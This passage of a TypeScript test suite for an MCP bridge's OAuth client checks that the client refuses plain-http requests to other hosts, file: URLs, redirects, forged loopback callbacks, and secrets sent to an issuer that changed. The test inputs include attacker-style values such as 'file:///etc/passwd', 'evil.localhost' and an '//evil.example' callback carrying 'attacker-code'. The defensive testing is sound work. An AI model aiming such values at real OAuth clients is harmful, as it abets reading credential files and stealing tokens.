    expect(oauthUrlProblem(new URL('http://as.example/token'), true)).toBeUndefined();
    expect(oauthUrlProblem(new URL('file:///etc/passwd'), true)).toMatch(/scheme is file:/);
  });

  it('refuses a plain http request to another host before connecting, and makes it with --allow-http', async () => {
    const { port, hosts } = await anyHost(() => ({ ok: true }));
    const url = `http://as.example:${port}/.well-known/oauth-authorization-server?secret=s3cr3t-value`;
    const refusal = createOAuthHttp(everyNameOnLoopback(), false).fetch(url, {});
    await expect(refusal).rejects.toBeInstanceOf(RefusedOAuthUrlError);
    await expect(refusal).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: expect.stringMatching(
        new RegExp(`^refused an OAuth request to http://as\\.example:${port}/\\.well-known/oauth-authorization-server\\?secret=\\*+: plain http`),
      ),
    });
    await expect(refusal).rejects.not.toMatchObject({ message: expect.stringContaining('s3cr3t-value') });
    await expect(createOAuthHttp(everyNameOnLoopback(), true).fetch('file:///etc/passwd', {})).rejects.toMatchObject({
      message: expect.stringMatching(/scheme is file:/),
    });
    expect(hosts).toEqual([]);
    // The user's own statement that the network is trusted: the request is made.
    expect((await createOAuthHttp(everyNameOnLoopback(), true).fetch(url, {})).status).toBe(200);
    expect(hosts).toEqual(['as.example']);
  });

  it('fetches no authorization server metadata over plain http from another host the resource metadata names', async () => {
    const { port, hosts } = await anyHost((host, path, p) =>
      path === '/.well-known/oauth-protected-resource/mcp'
        ? { resource: `http://127.0.0.1:${p}/mcp`, authorization_servers: [`http://as.example:${p}`] }
        : host === 'as.example' && path === '/.well-known/oauth-authorization-server'
          ? {
              issuer: `http://as.example:${p}`,
              authorization_endpoint: `https://as.example/auth`,
              token_endpoint: `https://as.example/token`,
              code_challenge_methods_supported: ['S256'],
            }
          : undefined,
    );
    const run = async (allowHttp: boolean) =>
      discover(
        createOAuthHttp(everyNameOnLoopback(), allowHttp),
        new URL(`http://127.0.0.1:${port}/mcp`),
        await parseBearerChallenge('Bearer'),
        AbortSignal.timeout(5000),
      );
    await expect(run(false)).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: expect.stringMatching(
        new RegExp(`^refused an OAuth request to http://as\\.example:${port}/\\.well-known/oauth-authorization-server: plain http`),
      ),
    });
    expect(hosts).toEqual(['127.0.0.1']);
    expect((await run(true)).as.issuer).toBe(`http://as.example:${port}`);
  });

  it('fetches no resource metadata over plain http from another host the challenge names', async () => {
    const { port, hosts } = await anyHost((host, path, p) =>
      host === 'rm.example' ? { resource: `http://127.0.0.1:${p}/mcp`, authorization_servers: [`http://127.0.0.1:${p}`] } : undefined,
    );
    const challenge = await parseBearerChallenge(`Bearer resource_metadata="http://rm.example:${port}/.well-known/oauth-protected-resource/mcp"`);
    await expect(
      discover(createOAuthHttp(everyNameOnLoopback(), false), new URL(`http://127.0.0.1:${port}/mcp`), challenge, AbortSignal.timeout(5000)),
    ).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: expect.stringMatching(/^refused an OAuth request to http:\/\/rm\.example:\d+\/.*: plain http/),
    });
    expect(hosts).toEqual([]);
  });

  it('refuses authorization server metadata whose token, registration, revocation or device endpoint is plain http to another host', async () => {
    const discoverWith = async (endpoints: Record<string, unknown>) => {
      const { port } = await anyHost((_host, path, p) =>
        path === '/.well-known/oauth-protected-resource/mcp'
          ? { resource: `http://127.0.0.1:${p}/mcp`, authorization_servers: [`http://127.0.0.1:${p}`] }
          : path === '/.well-known/oauth-authorization-server'
            ? {
                issuer: `http://127.0.0.1:${p}`,
                authorization_endpoint: `http://127.0.0.1:${p}/auth`,
                token_endpoint: `http://127.0.0.1:${p}/token`,
                code_challenge_methods_supported: ['S256'],
                ...endpoints,
              }
            : undefined,
      );
      return discover(
        createOAuthHttp(everyNameOnLoopback(), false),
        new URL(`http://127.0.0.1:${port}/mcp`),
        await parseBearerChallenge('Bearer'),
        AbortSignal.timeout(5000),
      );
    };
    for (const name of ['token_endpoint', 'registration_endpoint', 'revocation_endpoint', 'device_authorization_endpoint']) {
      await expect(discoverWith({ [name]: 'http://as.example/endpoint' }), name).rejects.toMatchObject({
        code: 'AUTH_REQUIRED',
        message: `refused the authorization server's ${name} http://as.example/endpoint: plain http:// to a host other than this machine: OAuth requests go over https (or http to loopback) unless --allow-http says the network is trusted`,
      });
    }
    await expect(discoverWith({ revocation_endpoint: 7 })).rejects.toMatchObject({ message: expect.stringMatching(/its revocation_endpoint is not a URL$/) });
    await expect(discoverWith({ token_endpoint: 'not a url' })).rejects.toMatchObject({ message: expect.stringMatching(/its token_endpoint is not a URL$/) });
    await expect(discoverWith({ authorization_endpoint: 42 })).rejects.toMatchObject({
      message: expect.stringMatching(/its authorization_endpoint 42 will not be opened in a browser: it is not a URL$/),
    });
  });

  it('makes no plain http request to a *.localhost name, which the resolver may send off the machine, and makes one to a loopback address or localhost itself', async () => {
    const { port, hosts } = await anyHost(() => ({ ok: true }));
    for (const host of ['evil.localhost', '127.0.0.1.localhost']) {
      const refusal = createOAuthHttp(everyNameOnLoopback(), false).fetch(`http://${host}:${port}/authorize`, {});
      await expect(refusal, host).rejects.toBeInstanceOf(RefusedOAuthUrlError);
      await expect(refusal, host).rejects.toMatchObject({
        code: 'AUTH_REQUIRED',
        message: expect.stringMatching(/: plain http:\/\/ to a host other than this machine/),
      });
    }
    expect(hosts).toEqual([]);
    expect(oauthUrlProblem(new URL('http://evil.localhost/token'), true)).toBeUndefined();
    expect(oauthUrlProblem(new URL('http://[::1]:9/token'), false)).toBeUndefined();
    for (const host of ['127.0.0.1', 'localhost'])
      expect((await createOAuthHttp(everyNameOnLoopback(), false).fetch(`http://${host}:${port}/authorize`, {})).status, host).toBe(200);
    expect(hosts).toEqual(['127.0.0.1', 'localhost']);
  });

  it('follows no redirect on an OAuth request: a 3xx to http or another scheme comes back as it is', async () => {
    const { port, hosts } = await anyHost(() => ({ reached: true }));
    const origin = await serve((req, res) =>
      res.writeHead(req.url === '/a' ? 302 : 307, { location: req.url === '/a' ? `http://elsewhere.example:${port}/stolen` : 'file:///etc/passwd' }).end(),
    );
    const http = createOAuthHttp(everyNameOnLoopback(), true);
    expect((await http.fetch(`${origin}/a`, {})).status).toBe(302);
    expect((await http.fetch(`${origin}/b`, { method: 'POST', body: 'code=secret' })).status).toBe(307);
    expect(hosts).toEqual([]);
  });
});

describe('loopback callback', () => {
  /** Writes `request` on a raw socket to `port`; resolves with the status line of the answer ('' when the socket closed without one). */
  function raw(port: number, request: string): Promise<string> {
    return new Promise((resolve) => {
      let received = '';
      const socket = connect(port, '127.0.0.1', () => socket.write(request));
      socket.setEncoding('utf8');
      socket.on('data', (chunk: string) => (received += chunk));
      // The server may close while the request is still being written (431): an EPIPE or reset then.
      socket.on('error', () => undefined);
      socket.on('close', () => resolve(received.split('\r\n')[0] ?? ''));
    });
  }

  it('ignores every request from another local process that is not the awaited callback, and then takes the real one', async () => {
    const callback = await startCallbackServer(0, 'the-state');
    cleanups.push(() => callback.close());
    const base = `http://127.0.0.1:${callback.port}`;
    let answered = false;
    void callback.response.then(() => (answered = true));
    const get = async (path: string, init?: RequestInit) => (await fetch(`${base}${path}`, init)).status;
    expect(await get('/callback?state=wrong&code=attacker-code')).toBe(404);
    expect(await get('/callback?code=attacker-code')).toBe(404);
    expect(await get('/other?state=the-state&code=attacker-code')).toBe(404);
    expect(await get('/callback?state=the-state&code=attacker-code', { method: 'POST', body: 'x'.repeat(1024 * 1024) })).toBe(404);
    // Request targets in absolute form, authority-like or none at all: each answered, none taken for the callback.
    for (const target of ['http://[', '/\\[', 'http://a:b:c@/', '//evil.example/callback?state=the-state&code=attacker-code', '*']) {
      expect(await raw(callback.port, `GET ${target} HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n`), target).toMatch(/^HTTP\/1\.1 (400|404) /);
    }
    // A request line past the limit is refused by the parser: nothing of it reaches the handler.
    const huge = `GET /callback?state=the-state&code=${'a'.repeat(MAX_CALLBACK_HEAD_BYTES)} HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n`;
    expect(await raw(callback.port, huge)).toMatch(/^HTTP\/1\.1 431 /);
    expect(answered).toBe(false);

    expect(await get('/callback?state=the-state&code=real-code')).toBe(200);
    expect((await callback.response).get('code')).toBe('real-code');
    // A second callback after the first, with the right state too, is not taken and not told it signed in.
    expect(await get('/callback?state=the-state&code=second-code')).toBe(404);
    expect((await callback.response).get('code')).toBe('real-code');
  });
});

describe('OAuth options', () => {
  const read = (content: string) => () => content;
  it('takes the client secret from the environment or a file, never without a client id', () => {
    expect(parseOAuthSettings({ oauthClientId: 'id' }, { FENBS_MCP_OAUTH_CLIENT_SECRET: 's3' }, read(''))).toMatchObject({
      clientId: 'id',
      clientSecret: 's3',
      loginTimeoutMs: LOGIN_TIMEOUT_MS,
    });
    expect(parseOAuthSettings({ oauthClientId: 'id', oauthClientSecretFile: '/f' }, {}, read(' s4\n'))).toMatchObject({ clientSecret: 's4' });
    expect(() => parseOAuthSettings({}, { FENBS_MCP_OAUTH_CLIENT_SECRET: 's3' }, read(''))).toThrow(UsageError);
    expect(() => parseOAuthSettings({ oauthClientId: 'id', oauthClientSecretFile: '/f' }, {}, read(' '))).toThrow(/is empty/);
  });
  it('takes the one authorization server to use from --oauth-issuer, else FENBS_MCP_OAUTH_ISSUER, and refuses one that is no issuer URL', () => {
    expect(parseOAuthSettings({ oauthIssuer: 'https://auth.example/tenant' }, { FENBS_MCP_OAUTH_ISSUER: 'https://other.example' }, read('')).issuer?.href).toBe(
      'https://auth.example/tenant',
    );
    expect(parseOAuthSettings({}, { FENBS_MCP_OAUTH_ISSUER: ' http://127.0.0.1:9000 ' }, read('')).issuer?.href).toBe('http://127.0.0.1:9000/');
    expect(parseOAuthSettings({}, { FENBS_MCP_OAUTH_ISSUER: ' ' }, read('')).issuer).toBeUndefined();
    for (const issuer of ['auth.example', 'file:///etc/passwd', 'https://auth.example/?tenant=a', 'https://auth.example/#a', 'https://user@auth.example/']) {
      expect(() => parseOAuthSettings({ oauthIssuer: issuer }, {}, read('')), issuer).toThrow(
        expect.objectContaining({
          name: 'UsageError',
          message: `--oauth-issuer must be the authorization server's issuer: an https:// URL (http:// for one on this machine) without a query, fragment or user name, got "${issuer}"`,
          fix: 'fenbs-mcp --oauth-issuer https://auth.example.com',
        }),
      );
    }
    expect(() => parseOAuthSettings({}, { FENBS_MCP_OAUTH_ISSUER: 'nope' }, read(''))).toThrow(/^FENBS_MCP_OAUTH_ISSUER must be/);
  });
  it('reads --oauth-scope, --oauth-resource, --oauth-no-resource and --oauth-authorize-param, refusing what the sign-in sets itself', () => {
    expect(parseOAuthSettings({ oauthScope: '  api://a/.default   offline_access ', oauthResource: 'api://a' }, {}, read(''))).toMatchObject({
      scope: 'api://a/.default offline_access',
      resource: new URL('api://a'),
    });
    expect(parseOAuthSettings({ oauthNoResource: true }, {}, read('')).resource).toBe(false);
    expect(() => parseOAuthSettings({ oauthNoResource: true, oauthResource: 'https://a.example/' }, {}, read(''))).toThrow(/contradict/);
    expect(() => parseOAuthSettings({ oauthScope: 'a "b"' }, {}, read(''))).toThrow(/RFC 6749 §3.3/);
    expect(() => parseOAuthSettings({ oauthResource: 'https://a.example/#f' }, {}, read(''))).toThrow(/without a fragment/);
    expect(parseOAuthSettings({ oauthAuthorizeParam: ['audience=https://api', 'prompt=consent', 'x='] }, {}, read('')).authorizeParams).toEqual([
      ['audience', 'https://api'],
      ['prompt', 'consent'],
      ['x', ''],
    ]);
    for (const name of ['redirect_uri', 'state', 'code_challenge', 'client_id', 'scope', 'resource', 'request_uri', 'response_type']) {
      expect(() => parseOAuthSettings({ oauthAuthorizeParam: [`${name}=x`] }, {}, read('')), name).toThrow(
        new RegExp(`--oauth-authorize-param cannot set ${name}: the sign-in sets it itself`),
      );
    }
    expect(() => parseOAuthSettings({ oauthAuthorizeParam: ['novalue'] }, {}, read(''))).toThrow(/expects name=value/);
    expect(() => parseOAuthSettings({ oauthAuthorizeParam: Array.from({ length: 33 }, (_, i) => `p${i}=v`) }, {}, read(''))).toThrow(/more than 32/);
  });
  it('reads a --oauth-client-key of RSA, P-256 or Ed25519, and refuses any other file without showing its text', () => {
    const pem = (key: KeyObject) => key.export({ type: 'pkcs8', format: 'pem' }).toString();
    const rsa = pem(generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey);
    const withKey = (text: string) => parseOAuthSettings({ oauthClientId: 'robot', oauthClientCredentials: true, oauthClientKey: '/k.pem' }, {}, read(text));
    expect(withKey(rsa).clientKey).toMatchObject({ file: '/k.pem', algorithm: 'RS256' });
    expect(withKey(pem(generateKeyPairSync('ec', { namedCurve: 'prime256v1' }).privateKey)).clientKey?.algorithm).toBe('ES256');
    expect(withKey(pem(generateKeyPairSync('ed25519').privateKey)).clientKey?.algorithm).toBe('EdDSA');
    const p384 = pem(generateKeyPairSync('ec', { namedCurve: 'secp384r1' }).privateKey);
    expect(() => withKey(p384)).toThrow(/is a ec secp384r1 key: private_key_jwt here signs with RSA \(RS256\), P-256 \(ES256\) or Ed25519 \(EdDSA\)/);
    for (const text of ['not a key', p384.slice(0, 80)]) {
      let message = '';
      try {
        withKey(text);
      } catch (error) {
        message = (error as Error).message;
      }
      expect(message).toMatch(/--oauth-client-key \/k\.pem holds no usable PEM private key/);
      expect(message).not.toContain(text);
    }
    expect(() => parseOAuthSettings({ oauthClientKey: '/k.pem' }, {}, read(rsa))).toThrow(/no --oauth-client-id/);
    expect(() => parseOAuthSettings({ oauthClientId: 'r', oauthClientKey: '/k.pem' }, { FENBS_MCP_OAUTH_CLIENT_SECRET: 's' }, read(rsa))).toThrow(/pick one/);
  });
  it('refuses a metadata-document URL that is not https with a path, and ports or timeouts out of range', () => {
    expect(() => parseOAuthSettings({ oauthClientMetadataUrl: 'http://a.example/c.json' }, {}, read(''))).toThrow(/https/);
    expect(
      parseOAuthSettings({ oauthClientMetadataUrl: 'https://a.example/c.json', oauthCallbackPort: '8765', oauthLoginTimeout: '1000' }, {}, read('')),
    ).toMatchObject({ callbackPort: 8765, loginTimeoutMs: 1000 });
    expect(() => parseOAuthSettings({ oauthCallbackPort: '70000' }, {}, read(''))).toThrow(/--oauth-callback-port/);
  });
});

describe('client id order', () => {
  const deps = (settings: object): FlowDeps => ({
    http: createOAuthHttp(dispatcher(), false),
    settings: {
      grant: 'authorization-code',
      clientId: undefined,
      clientSecret: undefined,
      issuer: undefined,
      clientMetadataUrl: undefined,
      callbackPort: undefined,
      loginTimeoutMs: 1000,
      scope: undefined,
      resource: undefined,
      authorizeParams: [],
      clientKey: undefined,
      allowPrivateNetwork: false,
      ...settings,
    },
    registerSecret: () => undefined,
    mask: (text) => text,
    showUrl: () => undefined,
    showDeviceCode: () => undefined,
    openBrowser: () => undefined,
    now: Date.now,
  });
  const as = { issuer: 'https://as.example', client_id_metadata_document_supported: true };
  it('prefers the pre-registered client, then a metadata document where supported, and refuses when nothing works', async () => {
    const signal = AbortSignal.timeout(1000);
    expect(await obtainClient(deps({ clientId: 'pre', clientSecret: 's' }), as, undefined, 'http://127.0.0.1:1/callback', signal)).toEqual({
      kind: 'pre-registered',
      clientId: 'pre',
      clientSecret: 's',
    });
    const cimd = new URL('https://c.example/client.json');
    expect(await obtainClient(deps({ clientMetadataUrl: cimd }), as, undefined, 'http://127.0.0.1:1/callback', signal)).toEqual({
      kind: 'metadata-document',
      clientId: cimd.href,
    });
    await expect(
      obtainClient(deps({ clientMetadataUrl: cimd }), { issuer: 'https://as.example' }, undefined, 'http://127.0.0.1:1/callback', signal),
    ).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/no dynamic client registration/) });
  });
});

describe('OAuthCredential on its own clock', () => {
  it('refreshes in the background ahead of expiry: the current request keeps its token, the next gets the new one', async () => {
    const setup = await startOAuthSetup({ accessTokenTtlSeconds: 3600 });
    cleanups.push(() => setup.close());
    const home = tempDir();
    let now = Date.now();
    const browser = await import('../../../helpers/oauth-browser-driver.js');
    const credential = new OAuthCredential({
      url: new URL(setup.mcpUrl),
      allowHttp: false,
      settings: parseOAuthSettings({}, {}, () => ''),
      logger: silent,
      env: { FENBS_MCP_HOME: home },
      registerSecret: () => undefined,
      dispatcher: dispatcher(),
      writeStderr: () => undefined,
      now: () => now,
      openBrowser: (url) => void browser.approve(url),
    });
    cleanups.push(() => credential.close());
    const challenge = `Bearer resource_metadata="${new URL('/.well-known/oauth-protected-resource/mcp', setup.mcpUrl).href}"`;
    expect(await credential.renew({ status: 401, wwwAuthenticate: challenge, sent: undefined }, AbortSignal.timeout(20_000))).toBe(true);
    const first = credential.authorization();
    now += 3600_000 - 30_000;
    // Past the refresh point: this request still carries the old token while the refresh runs.
    expect(credential.authorization()).toBe(first);
    expect(await credential.renew({ status: 401, wwwAuthenticate: challenge, sent: first }, AbortSignal.timeout(20_000))).toBe(true);
    expect(credential.authorization()).not.toBe(first);
    expect(setup.grants).toEqual(['authorization_code', 'refresh_token']);
    // A 403 that is not about scope is a refusal no new token changes.
    expect(
      await credential.renew({ status: 403, wwwAuthenticate: 'Bearer error="invalid_token"', sent: credential.authorization() }, AbortSignal.timeout(1000)),
    ).toBe(false);
    expect(await credential.renew({ status: 401, wwwAuthenticate: 'Basic realm="x"', sent: credential.authorization() }, AbortSignal.timeout(1000))).toBe(
      false,
    );
  });
});

describe('a server whose authorization server changes between calls', () => {
  /** A scripted authorization server named `name`: its metadata, registration (client-<name>) and tokens (at-<name>-<n>, rt-<name>); every request it receives is recorded. */
  async function namedAs(name: string) {
    const received: string[] = [];
    let issued = 0;
    const origin = await serve((req, res, origin) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        received.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''} ${Buffer.concat(chunks).toString()}`);
        const json = (status: number, body: unknown) => res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
        if (req.url === '/.well-known/oauth-authorization-server') {
          json(200, {
            issuer: origin,
            authorization_endpoint: `${origin}/auth`,
            token_endpoint: `${origin}/token`,
            registration_endpoint: `${origin}/register`,
            code_challenge_methods_supported: ['S256'],
            authorization_response_iss_parameter_supported: true,
          });
        } else if (req.url === '/register') json(201, { client_id: `client-${name}` });
        else if (req.url === '/token')
          json(200, { access_token: `at-${name}-${++issued}`, token_type: 'bearer', expires_in: 3600, refresh_token: `rt-${name}` });
        else res.writeHead(404).end();
      });
    });
    return { name, origin, received };
  }

  /** An MCP server whose protected-resource metadata names `current()`'s origin, and a credential for it whose user signs in at whichever page opens. */
  async function bridgeOf(
    current: () => { origin: string },
    settings: Parameters<typeof parseOAuthSettings>[0],
    env: Record<string, string> = {},
    home = tempDir(),
  ) {
    const mcp = await serve((req, res, origin) =>
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ resource: `${origin}/mcp`, authorization_servers: [current().origin] })),
    );
    const opened: string[] = [];
    const clock = { now: Date.now() };
    const credentialAt = (cacheHome: string, own = settings) => {
      const credential = new OAuthCredential({
        url: new URL(`${mcp}/mcp`),
        allowHttp: false,
        settings: parseOAuthSettings(own, env, () => ''),
        logger: silent,
        env: { FENBS_MCP_HOME: cacheHome },
        registerSecret: () => undefined,
        dispatcher: dispatcher(),
        writeStderr: () => undefined,
        now: () => clock.now,
        openBrowser: (url) => {
          const auth = new URL(url);
          opened.push(auth.origin);
          const callback = new URL(auth.searchParams.get('redirect_uri')!);
          callback.search = new URLSearchParams({ state: auth.searchParams.get('state')!, code: `code-for-${auth.origin}`, iss: auth.origin }).toString();
          void fetch(callback).then((r) => r.text());
        },
      });
      cleanups.push(() => credential.close());
      const challenge = `Bearer resource_metadata="${mcp}/.well-known/oauth-protected-resource/mcp"`;
      const renew = () => credential.renew({ status: 401, wwwAuthenticate: challenge, sent: credential.authorization() }, AbortSignal.timeout(10_000));
      return { credential, renew, token: () => credential.authorization()?.slice('Bearer '.length) };
    };
    return { home, opened, clock, credentialAt, ...credentialAt(home) };
  }

  it('keeps tokens and registrations with the issuer that issued them: nothing of one authorization server reaches the next the metadata names', async () => {
    const [a, b] = [await namedAs('a'), await namedAs('b')];
    let current = a;
    // The user signs in at whichever server the sign-in page belongs to; its callback carries its iss.
    const { opened, clock, renew, token } = await bridgeOf(() => current, {});

    expect(await renew()).toBe(true);
    expect(token()).toBe('at-a-1');
    const aBefore = a.received.length;
    current = b;
    // A sign-in at B soon after the one at A would be held by the quiet period; this one comes later.
    clock.now += SIGN_IN_QUIET_MS;
    expect(await renew()).toBe(true);
    expect(token()).toBe('at-b-1');
    // B registered its own client and signed in anew; A's refresh token, access token, client and code never went there.
    expect(opened).toEqual([a.origin, b.origin]);
    expect(b.received.some((r) => r.startsWith('POST /register'))).toBe(true);
    for (const secret of ['rt-a', 'at-a-1', 'client-a', encodeURIComponent(`code-for-${a.origin}`)])
      expect(
        b.received.filter((r) => r.includes(secret)),
        secret,
      ).toEqual([]);
    // B's token is refused: refreshed at B with B's client, nothing sent to A.
    expect(await renew()).toBe(true);
    expect(token()).toBe('at-b-2');
    const refresh = new URLSearchParams(b.received.at(-1)!.replace(/^POST \/token {2}/, ''));
    expect([refresh.get('grant_type'), refresh.get('refresh_token'), refresh.get('client_id')]).toEqual(['refresh_token', 'rt-b', 'client-b']);
    expect(a.received.length).toBe(aBefore);
  });

  /** What a server received, as method and path: no body, no header. */
  const requestsTo = (server: { received: string[] }) => server.received.map((r) => r.split(' ').slice(0, 2).join(' '));
  const PRE_REGISTERED = { oauthClientId: 'prex' };
  const WITH_SECRET = { FENBS_MCP_OAUTH_CLIENT_SECRET: 'sekrit' };

  it('sends a pre-registered client and its secret to no other authorization server than the one it was first used with, in this bridge or the next, until logout', async () => {
    const [a, b] = [await namedAs('a'), await namedAs('b')];
    let current = a;
    const bridge = await bridgeOf(() => current, PRE_REGISTERED, WITH_SECRET);
    expect(await bridge.renew()).toBe(true);
    expect(bridge.token()).toBe('at-a-1');
    // The code exchange at A went with the client's id and secret (client_secret_basic).
    expect(a.received.find((r) => r.startsWith('POST /token'))).toContain(`Basic ${Buffer.from('prex:sekrit').toString('base64')}`);
    // Bound to A, it goes on refreshing there.
    expect(await bridge.renew()).toBe(true);
    expect(bridge.token()).toBe('at-a-2');
    current = b;
    // Past the quiet period, so nothing but the binding holds a sign-in at B back.
    bridge.clock.now += SIGN_IN_QUIET_MS;
    const refusal = {
      code: 'AUTH_REQUIRED',
      message: `refused to send the secret of the pre-registered client prex to the authorization server ${b.origin}: the server now names it, but this client was first used with ${a.origin}`,
      context: { hint: expect.stringMatching(/fenbs-mcp logout and sign in again, or pass --oauth-issuer/) },
    };
    await expect(bridge.renew()).rejects.toMatchObject(refusal);
    // Another bridge on the machine reads the binding from the cache.
    await expect(bridge.credentialAt(bridge.home).renew()).rejects.toMatchObject(refusal);
    // B was asked for its metadata only: no token request, no registration, no sign-in page.
    expect(new Set(requestsTo(b))).toEqual(new Set(['GET /.well-known/oauth-authorization-server']));
    expect(b.received.filter((r) => r.includes('prex') || r.includes('sekrit') || r.includes('client_secret') || r.includes('Basic'))).toEqual([]);
    expect(bridge.opened).toEqual([a.origin]);
    // The user says the server really moved: logout, then the sign-in goes to B.
    expect(await bridge.credential.logout(AbortSignal.timeout(5000))).toBe(true);
    const next = bridge.credentialAt(bridge.home);
    expect(await next.renew()).toBe(true);
    expect(next.token()).toBe('at-b-1');
    expect(bridge.opened).toEqual([a.origin, b.origin]);
  });

  it('holds the binding in the bridge when the cache cannot be written', async () => {
    const [a, b] = [await namedAs('a'), await namedAs('b')];
    let current = a;
    const bridge = await bridgeOf(() => current, PRE_REGISTERED, WITH_SECRET);
    // A folder where the cache file goes: it reads as empty and every write fails.
    mkdirSync(bridge.credential.store.file, { recursive: true });
    expect(await bridge.renew()).toBe(true);
    current = b;
    bridge.clock.now += SIGN_IN_QUIET_MS;
    await expect(bridge.renew()).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: expect.stringMatching(/^refused to send the secret of the pre-registered client prex/),
    });
    expect(new Set(requestsTo(b))).toEqual(new Set(['GET /.well-known/oauth-authorization-server']));
  });

  it('binds a pre-registered client a cache from before bindings already holds to the authorization server of that entry', async () => {
    const [a, b] = [await namedAs('a'), await namedAs('b')];
    const bridge = await bridgeOf(() => b, PRE_REGISTERED, WITH_SECRET);
    bridge.credential.store.write({
      ...bridge.credential.store.read(),
      issuers: { [a.origin]: { resource: 'http://127.0.0.1/mcp', client: { kind: 'pre-registered', clientId: 'prex' } } },
    });
    await expect(bridge.renew()).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: expect.stringMatching(/^refused to send the secret of the pre-registered client prex/),
    });
    expect(new Set(requestsTo(b))).toEqual(new Set(['GET /.well-known/oauth-authorization-server']));
  });

  it('lets a pre-registered client without a secret follow the server to another authorization server: its id is no secret', async () => {
    const [a, b] = [await namedAs('a'), await namedAs('b')];
    let current = a;
    const bridge = await bridgeOf(() => current, PRE_REGISTERED);
    expect(await bridge.renew()).toBe(true);
    current = b;
    bridge.clock.now += SIGN_IN_QUIET_MS;
    expect(await bridge.renew()).toBe(true);
    expect(bridge.token()).toBe('at-b-1');
    // Public: client_id in the body, nothing in an Authorization header.
    expect(b.received.find((r) => r.startsWith('POST /token'))).toMatch(/^POST \/token {2}.*client_id=prex/);
  });

  it('with --oauth-issuer, makes no request to another authorization server the server names, and refreshes no token kept from one', async () => {
    const [a, b] = [await namedAs('a'), await namedAs('b')];
    let current = b;
    // Signed in at B before --oauth-issuer was given; its tokens are in the cache.
    const bridge = await bridgeOf(() => current, {});
    expect(await bridge.renew()).toBe(true);
    const before = b.received.length;
    const pinned = bridge.credentialAt(bridge.home, { oauthIssuer: a.origin });
    // Past its refresh point: the refresh ahead of expiry in the background is refused, then the renewal's discovery.
    bridge.clock.now += 3600_000;
    expect(pinned.token()).toBe('at-b-1');
    await expect(pinned.renew()).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: `refused the authorization server ${b.origin}/: --oauth-issuer names ${a.origin}/, and no request goes to another`,
      context: { hint: expect.stringMatching(/pass it with --oauth-issuer/) },
    });
    expect(b.received.length).toBe(before);
    expect(a.received).toEqual([]);
    // The server names A: the sign-in goes there.
    current = a;
    expect(await pinned.renew()).toBe(true);
    expect(pinned.token()).toBe('at-a-1');
  });

  it('refuses an authorization response whose iss names another server even where the metadata does not promise iss (RFC 9207 §2.4)', async () => {
    const server = await namedAs('c');
    const o = server.origin;
    // Its metadata without authorization_response_iss_parameter_supported.
    const as = {
      issuer: o,
      authorization_endpoint: `${o}/auth`,
      token_endpoint: `${o}/token`,
      registration_endpoint: `${o}/register`,
      code_challenge_methods_supported: ['S256'],
    };
    const discovered = { as, resource: new URL(`${server.origin}/mcp`), scopesSupported: undefined };
    const deps = (iss: string | undefined): FlowDeps => ({
      http: createOAuthHttp(dispatcher(), false),
      settings: {
        grant: 'authorization-code',
        clientId: undefined,
        clientSecret: undefined,
        issuer: undefined,
        clientMetadataUrl: undefined,
        callbackPort: undefined,
        loginTimeoutMs: 10_000,
        scope: undefined,
        resource: undefined,
        authorizeParams: [],
        clientKey: undefined,
        allowPrivateNetwork: false,
      },
      registerSecret: () => undefined,
      mask: (text) => text,
      showUrl: () => undefined,
      showDeviceCode: () => undefined,
      now: Date.now,
      openBrowser: (url) => {
        const auth = new URL(url);
        const callback = new URL(auth.searchParams.get('redirect_uri')!);
        callback.search = new URLSearchParams({ state: auth.searchParams.get('state')!, code: 'c', ...(iss === undefined ? {} : { iss }) }).toString();
        void fetch(callback).then((r) => r.text());
      },
    });
    const request = { discovered, scope: undefined, storedClient: undefined, preferredPort: undefined, signal: AbortSignal.timeout(10_000) };
    await expect(signIn(deps('https://other-issuer.example'), request)).rejects.toMatchObject({
      message: expect.stringMatching(/failed its checks: unexpected "iss"/),
    });
    expect((await signIn(deps(undefined), request)).tokens.accessToken).toMatch(/^at-c-/);
  });
});

describe('the quiet period after an interactive sign-in', () => {
  const server = 'https://a.example/mcp';
  const issuer = 'https://as.example';
  /** A credential whose cache holds `lastSignIn` (and `tokens`, sent at start), on a clock the test moves. */
  function held(lastSignIn: object, tokens?: object) {
    const home = tempDir();
    const clock = { now: 1_000_000_000_000 };
    new TokenStore(home, new URL(server)).write({
      server,
      issuer,
      issuers: {
        [issuer]: {
          resource: server,
          ...(tokens === undefined ? {} : { tokens: { accessToken: 'token-from-sign-in', obtainedAt: clock.now - 1000, ...tokens } }),
        },
      },
      lastSignIn: { at: clock.now - 1000, stepUp: false, ...lastSignIn } as never,
    });
    const windows: string[] = [];
    const credential = new OAuthCredential({
      url: new URL(server),
      allowHttp: false,
      settings: parseOAuthSettings({}, {}, () => ''),
      logger: silent,
      env: { FENBS_MCP_HOME: home },
      registerSecret: () => undefined,
      dispatcher: dispatcher(),
      writeStderr: () => undefined,
      now: () => clock.now,
      openBrowser: (url) => windows.push(url),
    });
    cleanups.push(() => credential.close());
    return { credential, clock, windows };
  }
  const renewal = (credential: OAuthCredential, status: 401 | 403 = 401, wwwAuthenticate = 'Bearer') =>
    credential.renew({ status, wwwAuthenticate, sent: credential.authorization() }, AbortSignal.timeout(5000));

  it('answers AUTH_REQUIRED saying how the last sign-in ended, opens no window and goes to no server, whatever its outcome', async () => {
    const next = /^no new sign-in opens for this server for 299 s, so a retrying client cannot open window after window; fenbs-mcp login signs in now$/;
    for (const [outcome, message] of [
      ['denied', 'the sign-in 1 s ago was denied'],
      ['timeout', 'the sign-in 1 s ago did not complete within the login timeout'],
      ['failed', 'the sign-in 1 s ago failed'],
    ]) {
      const { credential, windows } = held({ outcome });
